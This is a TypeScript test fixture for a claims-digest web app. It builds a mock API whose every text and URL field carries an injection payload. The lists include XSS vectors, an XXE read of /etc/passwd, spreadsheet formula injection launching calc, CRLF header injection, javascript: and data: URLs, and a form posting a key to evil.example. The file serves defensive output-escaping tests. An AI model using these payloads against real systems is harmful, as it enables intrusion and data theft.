import type { Parts } from '../../lib/api/parts.ts'
import type { Change } from '../../lib/ledger/change.ts'
import type { Value } from '../../lib/ledger/value.ts'
import type { ClaimRecord } from '../../lib/store/record.ts'
import { feed, parts } from '../api/sample.ts'
import { changes, claims, sample, values } from '../digest/sample.ts'

/** What a page may bring along in any field that it fills. Each tries to run `hit()`. */
export const attacks = [
  '<script>hit()</script>',
  '</script><script>hit()</script>',
  '</title><script>hit()</script>',
  '</style><script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>',
  '<math><mi//xlink:href="data:x,<script>hit()</script>">',
  '<a href="javascript:hit()">x</a>',
  '" onmouseover="hit()" x="',
  "' onfocus='hit()' autofocus x='",
  '"><script>hit()</script>',
  ['`$', '{hit()}`'].join(''),
  '{{constructor.constructor("hit()")()}}',
  '<!--<script>hit()--></script>',
  ']]><script>hit()</script>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><input name=key>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><script>hit()</script>">',
  '<xmp><script>hit()</script></xmp>',
  '<plaintext>',
  '\u0000<scr\u0000ipt>hit()</scr\u0000ipt>',
  '\u202e<script>hit()</script>\u202d',
  '\u2066\u2067\u2069\u200f\u061c',
  '\ud800\udfff\ud800',
  '\u001b]0;hit\u0007\u001b[2J',
  'line one\r\nSet-Cookie: hit=1\r\n\r\n<script>hit()</script>',
  '\u2028hit()\u2029',
  '＜script＞hit()＜/script＞',
  '<sCrIpT/x>hit()</sCrIpT >',
  '<<script>script>hit()<</script>/script>',
  '<a href="&#106;avascript&colon;hit()">x</a>',
  '<input autofocus onfocus=hit()>',
  '<video><source onerror=hit()></video>',
  '<object data="data:text/html,<script>hit()</script>"></object>',
  '<embed src="javascript:hit()">',
  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=hit()>#x"/></svg>',
  '</textarea></option></select><script>hit()</script>',
  '--><script>hit()</script><!--',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '=HYPERLINK("https://evil.example","hit")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '%3Cscript%3Ehit()%3C/script%3E',
  '{"__proto__":{"hit":true}}',
  '<%= hit() %>#{hit()}',
  '\u0085\u00ad\u200b\u2060\ufeff<b onclick=hit()>',
]

export const badAddresses = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\nscript:hit()',
  '\u0001javascript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'vbscript:hit()',
  'file:///etc/passwd',
  'blob:https://x/1',
  '//evil.example/" onclick="hit()',
  'https://daily.example/" onmouseover="hit()',
  "https://daily.example/'><script>hit()</script>",
  'https://[broken',
  '',
]

/** An endpoint whose every outside text is the attack, and every outside address the bad one. */
export function hostile(attack: string, address: string): Partial<Parts> {
  const spoiled = claims.map((claim) => spoil(claim, attack, address))
  const named = (value: Value): Value => {
    const figure = { ...value.figure, claimant: `slug-${value.figure.claimant}` }
    return { ...value, figure, names: [attack], outlets: [attack] }
  }
  const spoiledChanges: Change[] = changes.map((change) => ({
    ...change,
    figure: { ...change.figure, claimant: attack },
    from: change.from && named(change.from),
    to: change.to && named(change.to),
    against: change.against.map(named),
  }))
  const digest = (window: Parameters<Parts['gatherDigest']>[0]) =>
    sample({
      window,
      changes: spoiledChanges,
      proofs: (id) => spoiled.filter(({ valueId }) => valueId === id),
      article: () => ({ url: address, title: attack, outlet: attack }),
      coverage: {
        ...sample().coverage,
        feedsFailed: [{ title: attack, health: 'malformed', since: attack, why: attack }],
      },
    })
  const bad = { ...feed('bad', { title: attack, why: attack, newest: attack, since: attack }), url: address }
  return {
    local: true,
    gatherDigest: async (window) => digest(window),
    gatherFigure: async () => {
      const found = await parts().gatherFigure(values.before.figureId)
      const proofs = spoiled.map((claim) => digestProof(claim))
      return (
        found && {
          ...found,
          view: {
            ...found.view,
            claimant: attack,
            history: found.view.history.map((shown, index) => ({ ...shown, proof: proofs[index] ?? null })),
          },
        }
      )
    },
    findClaim: async () => spoiled[0] ?? null,
    findArticle: async (id) => {
      const found = await parts().findArticle('a1')
      return found && { ...found, id, url: address, outlet: { ...found.outlet, name: attack } }
    },
    observationsOf: async () => {
      const readings = await parts().observationsOf('a1')
      return readings.map((reading) => ({
        ...reading,
        title: attack,
        lang: attack,
        published: attack,
        problem: attack,
      }))
    },
    claimsOfArticle: async () =>
      spoiled.map((claim) => ({ ...claim, source: { id: 'x', name: attack, rule: attack } })),
    findText: async () => `${attack.replace(/\s+/g, ' ')} Words that stand after it.`,
    gatherStatements: async () =>
      spoiled.slice(0, 2).map((claim) => ({
        id: attack,
        speaker: { id: attack, name: attack },
        lang: attack,
        at: attack,
        quote: attack,
        said: [digestProof(claim)].flatMap((proof) => proof ?? []),
      })),
    listClaims: async () => ({ claims: spoiled, cursor: attack }),
    gatherFigures: async () => {
      const { views } = await parts().gatherFigures({}, { limit: 9, proofs: false })
      return { views: views.map((view) => ({ ...view, claimant: attack })), cursor: attack }
    },
    listFeeds: async () => [bad],
    addFeed: async () => ({ kind: 'choices', feeds: [{ url: address, title: attack }] }),
  }
  function digestProof(claim: ClaimRecord) {
    return sample({ proofs: () => [claim] }).items[1]?.to?.proof ?? null
  }
}

function spoil(claim: ClaimRecord, attack: string, address: string): ClaimRecord {
  const sentence = `${attack} ${claim.quote} ${attack}`
  const start = attack.length + 1
  const span = [start, start + claim.quote.length] as const
  const evidence = {
    ...claim,
    sentence,
    lang: attack,
    via: [{ id: 'x', name: attack, rule: attack }],
    source: { id: 'x', name: attack, rule: attack },
    trace: [attack],
    article: { ...claim.article, url: address, title: attack, outlet: attack, published: attack, credit: attack },
  }
  if (evidence.kind === 'statement') return { ...evidence, spans: { quote: span, sentence: [0, sentence.length] } }
  return {
    ...evidence,
    unit: `other:${attack}`,
    raw: attack,
    spans: { quote: span, number: span, sentence: [0, sentence.length] },
  }
}
